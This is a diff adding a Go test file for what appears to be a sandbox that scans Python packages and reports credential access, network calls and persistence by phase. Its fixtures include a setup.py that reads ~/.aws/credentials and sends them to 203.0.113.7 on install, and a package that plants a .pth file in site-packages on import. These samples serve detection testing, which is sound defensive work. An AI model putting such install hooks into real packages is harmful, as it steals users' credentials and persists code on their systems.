@@ -1,0 +1,185 @@
+package pkgtest_test
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/moat-sandbox/moat"
+	"github.com/moat-sandbox/moat/pkgtest"
+	"github.com/moat-sandbox/moat/report"
+)
+
+// writeProject writes files (name → content) into a new directory.
+func writeProject(t *testing.T, files map[string]string) string {
+	t.Helper()
+	dir := t.TempDir()
+	for name, content := range files {
+		p := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return dir
+}
+
+// findings of a category in a phase (and in the report's top level,
+// which must hold every phase's).
+func findings(t *testing.T, rep *pkgtest.Report, phase, cat string) []moat.Finding {
+	t.Helper()
+	var out []moat.Finding
+	for _, f := range phase_(rep, phase).Findings {
+		if f.Phase != phase {
+			t.Errorf("a finding of phase %s says phase %q: %+v", phase, f.Phase, f)
+		}
+		for _, e := range f.Evidence {
+			if e.Phase != phase {
+				t.Errorf("evidence of phase %s says phase %q: %+v", phase, e.Phase, e)
+			}
+		}
+		if f.Category == cat {
+			out = append(out, f)
+		}
+	}
+	return out
+}
+
+func phase_(rep *pkgtest.Report, name string) *pkgtest.PhaseResult { return phase(rep, name) }
+
+func logFindings(t *testing.T, rep *pkgtest.Report) {
+	t.Helper()
+	for _, f := range rep.Findings {
+		t.Logf("[%s] %s %s: %s", f.Phase, f.Severity, f.Category, f.Summary)
+	}
+}
+
+// checkConsistent: every phase that ran has its events stamped and
+// bounded, and the top level lists exactly the phases' findings.
+func checkConsistent(t *testing.T, rep *pkgtest.Report) {
+	t.Helper()
+	n := 0
+	for _, p := range rep.Phases {
+		if p.Findings == nil {
+			t.Errorf("phase %s: findings is null", p.Name)
+		}
+		if len(p.Events) > pkgtest.MaxPhaseEvents {
+			t.Errorf("phase %s: %d events, more than %d", p.Name, len(p.Events), pkgtest.MaxPhaseEvents)
+		}
+		for _, e := range p.Events {
+			if e.Phase != p.Name {
+				t.Fatalf("phase %s: event stamped %q: %+v", p.Name, e.Phase, e)
+			}
+		}
+		n += len(p.Findings)
+	}
+	if len(rep.Findings) != n || rep.Verdict != report.Verdict(rep.Findings) {
+		t.Errorf("top level: %d findings (phases: %d), verdict %s", len(rep.Findings), n, rep.Verdict)
+	}
+}
+
+// An sdist whose setup.py reads the planted AWS credentials and tries to
+// send them out: credential access and network, attributed to install.
+func TestReportInstallHook(t *testing.T) {
+	dir := writeProject(t, map[string]string{
+		"setup.py": `import os, socket
+from setuptools import setup
+try:
+    with open(os.path.expanduser("~/.aws/credentials")) as f:
+        loot = f.read()
+except OSError as e:
+    loot = str(e)
+try:
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(2)
+    s.connect(("203.0.113.7", 443))
+    s.sendall(loot.encode())
+except OSError as e:
+    print("MOAT-TEST: connect failed:", e)
+setup(name="stealer", version="0.1", packages=["stealer"])
+`,
+		"stealer/__init__.py": "VALUE = 1\n",
+	})
+	tg, err := pkgtest.DetectTarget(makeSdist(t, dir, "stealer-0.1"), false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rep, err := run(t, pkgtest.Config{Target: tg, Phases: []string{"install", "import"}})
+	if err != nil || rep.Status != pkgtest.StatusPassed {
+		dump(t, rep)
+		t.Fatalf("status %s, err %v", rep.Status, err)
+	}
+	logFindings(t, rep)
+	checkConsistent(t, rep)
+	cred := findings(t, rep, "install", report.CredentialAccess)
+	if len(cred) == 0 || !strings.Contains(cred[0].Summary, "/.aws/credentials") || report.Rank(cred[0].Severity) < report.Rank("high") {
+		t.Errorf("no credential-access finding of the install phase for ~/.aws/credentials: %+v", cred)
+	}
+	if net := findings(t, rep, "install", report.Network); len(net) == 0 || !strings.Contains(net[0].Summary, "203.0.113.7:443") {
+		t.Errorf("no network finding of the install phase naming 203.0.113.7:443: %+v", net)
+	}
+	for _, p := range []string{"venv", "import"} {
+		for _, f := range phase(rep, p).Findings {
+			if report.Rank(f.Severity) > report.Rank("low") {
+				t.Errorf("phase %s: finding above low: %+v", p, f)
+			}
+		}
+	}
+	if rep.Findings[0].Phase != "install" || rep.Verdict != "high" && rep.Verdict != "critical" {
+		t.Errorf("top level: verdict %s, first finding %+v", rep.Verdict, rep.Findings[0])
+	}
+}
+
+// A package whose import writes a .pth file with code into the venv's
+// site-packages: persistence, attributed to import.
+func TestReportImportPersistence(t *testing.T) {
+	dir := writeProject(t, map[string]string{
+		"setup.py": "from setuptools import setup\nsetup(name=\"persist\", version=\"0.1\", packages=[\"persist\"])\n",
+		"persist/__init__.py": `import sysconfig
+with open(sysconfig.get_paths()["purelib"] + "/zz_persist.pth", "w") as f:
+    f.write("import os; os.environ.setdefault('PERSISTED', '1')\n")
+`,
+	})
+	tg, err := pkgtest.DetectTarget(dir, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rep, err := run(t, pkgtest.Config{Target: tg, Phases: []string{"install", "import"}})
+	if err != nil || rep.Status != pkgtest.StatusPassed {
+		dump(t, rep)
+		t.Fatalf("status %s, err %v", rep.Status, err)
+	}
+	logFindings(t, rep)
+	checkConsistent(t, rep)
+	per := findings(t, rep, "import", report.Persistence)
+	if len(per) == 0 || !strings.Contains(per[0].Summary, "zz_persist.pth") || per[0].Severity != "high" {
+		t.Errorf("no persistence finding of the import phase for zz_persist.pth: %+v", per)
+	}
+	if got := findings(t, rep, "install", report.Persistence); len(got) != 0 {
+		t.Errorf("persistence attributed to install: %+v", got)
+	}
+}
+
+// A benign package: no finding above low in any phase.
+func TestReportBenign(t *testing.T) {
+	rep, err := run(t, pkgtest.Config{Target: project(t, "calc")})
+	if err != nil || rep.Status != pkgtest.StatusPassed {
+		dump(t, rep)
+		t.Fatalf("status %s, err %v", rep.Status, err)
+	}
+	logFindings(t, rep)
+	checkConsistent(t, rep)
+	for _, f := range rep.Findings {
+		if report.Rank(f.Severity) > report.Rank("low") {
+			t.Errorf("benign package: [%s] %s %s: %s %+v", f.Phase, f.Severity, f.Category, f.Summary, f.Evidence)
+		}
+	}
+	for _, p := range rep.Phases {
+		if len(p.Events) == 0 {
+			t.Errorf("phase %s: no events", p.Name)
+		}
+	}
+}
